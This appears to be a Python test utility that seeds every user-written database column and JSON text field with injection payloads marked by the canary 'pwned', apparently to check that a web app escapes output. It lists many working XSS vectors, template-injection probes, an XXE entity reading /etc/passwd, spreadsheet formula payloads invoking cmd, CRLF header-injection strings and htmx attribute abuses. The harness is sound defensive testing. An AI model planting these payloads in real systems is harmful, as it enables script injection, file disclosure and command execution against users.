"""Words that try to become code, and a way to put them into every text a database holds.

A new table or column is poisoned by itself; one whose text is a code or a key of ours is named in KEPT.
"""

from collections.abc import Iterator
from typing import Any

from sqlalchemy import JSON, Connection, MetaData, Table, UniqueConstraint, select, text
from sqlalchemy.sql.schema import Column
from sqlmodel.sql.sqltypes import AutoString

CANARY = "pwned"
"""Every vector carries it; a page on which it stands in anything but plain words or inert values is broken."""

CALL = f"{CANARY}(1)"

TAGS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script/x>{CALL}</script>",
    f"<script src=//{CANARY}.example/x.js></script>",
    f"<script src=data:,{CALL}></script>",
    f"<script\x0c>{CALL}</script\x0c>",
    f"<script>{CALL}",
    f"<<script>{CALL};//<</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script type=module>import'//{CANARY}.example'</script>",
    f"<img src=x onerror={CALL}>",
    f"<img src=x onerror='{CALL}'",
    f"<IMG SRC=x OnErRoR={CALL}>",
    f"<img/src=x/onerror={CALL}>",
    f"<img\tsrc=x\tonerror={CALL}>",
    f'<img src="x`onerror={CALL}">',
    f'<img srcset=x,y onerror="{CALL}">',
    f"<img src=x onerror=&#112;wned(1) alt={CANARY}>",
    f"<image href=x onerror={CALL}>",
    f"<video src=x onerror={CALL}></video>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<body onload={CALL}>",
    f"<body onpageshow={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>",
    f"<textarea autofocus onfocus={CALL}>",
    f"<marquee onstart={CALL}>",
    f"<a onmouseover={CALL}>{CANARY}</a>",
    f"<button popovertarget=x onbeforetoggle={CALL}>",
    f"<div popover id=x onbeforetoggle={CALL}>",
    f"<xss onanimationstart={CALL} class={CANARY}>",
    f"<{CANARY}-x>{CANARY}</{CANARY}-x>",
    f"<dialog open oncancel={CALL}>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<embed src=javascript:{CALL}>",
    f"<base href=//{CANARY}.example/>",
    f"<meta http-equiv=refresh content=0;url=javascript:{CALL}>",
    f"<link rel=stylesheet href=//{CANARY}.example/x.css>",
    f"<form action=//{CANARY}.example><button>{CANARY}",
    f"<button formaction=javascript:{CALL}>",
    f"<isindex action=javascript:{CALL} type=submit>",
    f"<template><script>{CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<plaintext>{CANARY}",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<!--{CANARY}",
    f"<![CDATA[<img src=x onerror={CALL}>]]>",
    f"<?xml-stylesheet href=javascript:{CALL}?>",
    f"<!DOCTYPE x [<!ENTITY {CANARY} SYSTEM 'file:///etc/passwd'>]>&{CANARY};",
    f"<portal src=javascript:{CALL}>",
)
BREAKOUTS = (
    f'"><img src=x onerror={CALL}>',
    f"'><img src=x onerror={CALL}>",
    f"></p><img src=x onerror={CALL}>",
    f'" onmouseover="{CALL}',
    f"' onmouseover='{CALL}",
    f'" autofocus onfocus="{CALL}" x="',
    f"` onmouseover={CALL} `",
    f" onmouseover={CALL} x=",
    f'" style="background:url(javascript:{CALL})',
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</option></select><img src=x onerror={CALL}>",
    f"</template><img src=x onerror={CALL}>",
    f"</blockquote></figure><img src=x onerror={CALL}>",
    f"--><img src=x onerror={CALL}>",
    f"]]><img src=x onerror={CALL}>",
    f'\\"><img src=x onerror={CALL}>',
)
SCHEMES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f" javascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"javascript://%0a{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"data:text/html;base64,cHduZWQ=#{CANARY}",
    f"<a href=javascript:{CALL}>{CANARY}</a>",
    f'<a href="java&#10;script:{CALL}">{CANARY}</a>',
    f"[{CANARY}](javascript:{CALL})",
    f'![{CANARY}](x"onerror="{CALL})',
    f"//{CANARY}.example/",
)
SVG = (
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x></svg>",
    f"<svg><a xlink:href=javascript:{CALL}><text>{CANARY}</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={CALL}>#x'></svg>",
    f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={CALL}></style></svg>",
    f"<svg><set attributeName=href to=javascript:{CALL}></svg>",
    f"<math><mi xlink:href=javascript:{CALL}>{CANARY}</mi></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={CALL}>",
)
TEMPLATES = (
    "{{7777*7}}" + CANARY,
    "${7777*7}" + CANARY,
    "#{7777*7}" + CANARY,
    "<%= 7777*7 %>" + CANARY,
    "{% print 7777*7 %}" + CANARY,
    "{{config.__class__.__mro__}}" + CANARY,
    "{{''.__class__.__base__.__subclasses__()}}" + CANARY,
    f"%(name)s %s %d {CANARY} %(" + CANARY + ")s",
    "{0.__class__} {" + CANARY + "}",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
)
CSS = (
    f"<style>@import'//{CANARY}.example';</style>",
    f"<style>*{{background:url(javascript:{CALL})}}</style>",
    f"<p style=\"background:url('//{CANARY}.example')\">",
    f"<div style=width:expression({CALL})>",
    f"</style>{{}}*{{x:expression({CALL})}}",
)
SIGNS = (
    f"\u202e{CANARY}\u202c<img src=x onerror={CALL}>",
    f"\u2066{CANARY}\u2069",
    f"\u200b<\u200bscript>{CALL}</script>",
    f"\ufeff<script>{CALL}</script>",
    f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    f"\u2028{CALL}//\u2029",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;img src=x onerror={CALL}&#62;",
    f"&#x3C;img src=x onerror={CALL}&#x3E;",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{CALL}",
    f"+ADw-script+AD4-{CALL}",
    f"\x1b[31m{CANARY}\x07",
)
DATA = (
    f'</script><script>{CALL}</script>{{"@type":"x"}}',
    f'","url":"javascript:{CALL}","x":"',
    f"</script><!--<script>{CALL}",
    f"</entry><entry><title>{CANARY}</title></entry>",
    f"]]></content><script>{CALL}</script>",
    f'=HYPERLINK("http://{CANARY}.example";"{CANARY}")',
    f"+{CANARY}|' /C calc'!A0",
    f"-2+3+cmd|'{CANARY}'!A0",
    f"@SUM({CANARY})",
    f"\uff1d1+1 {CANARY}",
)
HTMX = (
    f'<div hx-get="/{CANARY}" hx-trigger="load">{CANARY}</div>',
    f'<div data-hx-get="/{CANARY}" data-hx-trigger="load">',
    f'<div hx-on:click="{CALL}" hx-vals="js:{{x:{CALL}}}">',
    f'" hx-post="/studio/sign-out?{CANARY}" hx-trigger="load',
    f'" data-hx-on:load="{CALL}',
    f'<div hx-swap-oob="true" id="{CANARY}">',
    f'<a data-copy="{CANARY}" data-share data-url="javascript:{CALL}">',
    f"<hx-partial hx-target='body'>{CANARY}</hx-partial>",
)
LINES = (
    f"{CANARY}\r\nBcc: {CANARY}@{CANARY}.example",
    f"{CANARY}\nSubject: {CANARY}",
    f"{CANARY}\r\n\r\n<script>{CALL}</script>",
    f"{CANARY}\nEND:VEVENT\nBEGIN:VALARM\nATTACH:http://{CANARY}.example",
    f"{CANARY}\nATTENDEE;{CANARY}=1:mailto:x@{CANARY}.example",
    f"{CANARY}\r",
)
VECTORS = (*TAGS, *BREAKOUTS, *SCHEMES, *SVG, *TEMPLATES, *CSS, *SIGNS, *DATA, *HTMX)

# Where a form takes web addresses only, a row holds at worst these.
ADDRESSES = f'https://{CANARY}.example/"onclick="{CALL}"><img src=x onerror={CALL}>\'{CANARY}'
PATHS = f'/c/{CANARY}"onclick="{CALL}"><img src=x onerror={CALL}>\'#{CANARY}'

# Texts that are codes, keys or addresses of ours: nobody types them freely.
KEPT = {
    *("language", "timezone", "currency", "country", "zone", "zone_rules", "channel", "server", "sealed"),
    *("mime", "sha256", "source", "likeness", "participant", "salt", "password_hash", "email", "recipient"),
    *("key", "holder", "claimed_by", "client_id", "kind", "state", "type", "action", "payment_intent"),
    *("remote_id", "progress", "use", "template", "legal_number", "category", "author_email"),
    *("author_language", "contact_email", "donor_email", "reason_code", "format", "contact_phone"),
}
KEPT_HERE = {("storyboard_edit", "label"), ("intake_item", "reason"), ("post", "claimed_by")}
KEPT_TABLES = {
    *("outgoing_mail", "job_run", "lease", "rate_count", "payment_event", "channel_app", "past_slug"),
    *("channel_connecting", "reminder_target", "post_attempt", "alembic_version"),
    *("log_entry", "log_head"),  # digests, chained
}
# Keys of JSON texts that people write.
WRITTEN = {"label", "title", "detail", "note", "help", "blank", "fr", "en", "text", "who", "name", "reason"}


def texts(table: Table) -> Iterator[Column[Any]]:
    """The columns of a table that hold what somebody wrote."""
    together = {
        column.name
        for constraint in table.constraints
        if isinstance(constraint, UniqueConstraint)
        for column in constraint.columns
    }
    for column in table.columns:
        ours = column.primary_key or column.unique or column.foreign_keys or column.name in together
        named = column.name in KEPT or (table.name, column.name) in KEPT_HERE
        coded = column.name.endswith(("_hash", "_pid", "_token", "pid"))
        if isinstance(column.type, AutoString) and not (ours or named or coded):
            yield column


def everything(*, lines: bool) -> str:
    """All vectors in one text; `lines` adds those that break lines, for texts of several."""
    return " ".join(VECTORS) + ("\n".join(LINES) if lines else "")


def poison(connection: Connection, metadata: MetaData, *, whole: int = 2, start: int = 0) -> int:
    """Write vectors into every text of every row; returns how many were written.

    The first `whole` rows of a table take all vectors in each column, where the database allows the length;
    each other row takes one, another one than its neighbours.
    """
    triggers: list[Any] = []
    if connection.dialect.name == "sqlite":
        triggers = list(
            connection.execute(text("SELECT name, sql FROM sqlite_master WHERE type = 'trigger'")).all()
        )
        for name, _ in triggers:
            connection.execute(text(f"DROP TRIGGER {name}"))
    else:
        connection.execute(text("SET LOCAL session_replication_role = replica"))
    written = 0
    for table in metadata.sorted_tables:
        if table.name not in KEPT_TABLES:
            written += _poison_table(connection, table, whole, start)
    for _, sql in triggers:
        connection.execute(text(sql))
    return written


def _poison_table(connection: Connection, table: Table, whole: int, start: int) -> int:
    columns = list(texts(table))
    structured = [column for column in table.columns if isinstance(column.type, JSON)]
    key = next(iter(table.primary_key.columns))
    written = 0
    for place, row in enumerate(connection.execute(select(table).order_by(key)).mappings()):
        turn = start + 7 * place
        values: dict[str, Any] = {}
        for number, column in enumerate(columns):
            if row[column.name]:  # what is empty may have to be
                values[column.name] = _vector(connection, table, column, turn + number, whole=place < whole)
        for column in structured:
            values[column.name] = _inside(row[column.name], turn)
        if values:
            connection.execute(table.update().where(key == row[key.name]).values(**values))
            written += len(values)
    return written


def _vector(connection: Connection, table: Table, column: Column[Any], turn: int, *, whole: bool) -> str:
    if column.name.endswith(("url", "website")):
        return ADDRESSES
    if (table.name, column.name) == ("notice", "address"):
        return PATHS
    length = getattr(column.type, "length", None) or 4000
    found = VECTORS[turn % len(VECTORS)]
    if whole:
        found = f"{found} {everything(lines=length > 300)}"
    return found if connection.dialect.name == "sqlite" else found[:length].replace("\x00", "")


def _inside(value: Any, turn: int, key: str = "") -> Any:
    """A JSON value whose written texts are vectors."""
    if isinstance(value, dict):
        return {name: _inside(one, turn + place, name) for place, (name, one) in enumerate(value.items())}
    if isinstance(value, list):
        return [_inside(one, turn + place, key) for place, one in enumerate(value)]
    if isinstance(value, str) and value and key in WRITTEN:
        return VECTORS[turn % len(VECTORS)]
    return value
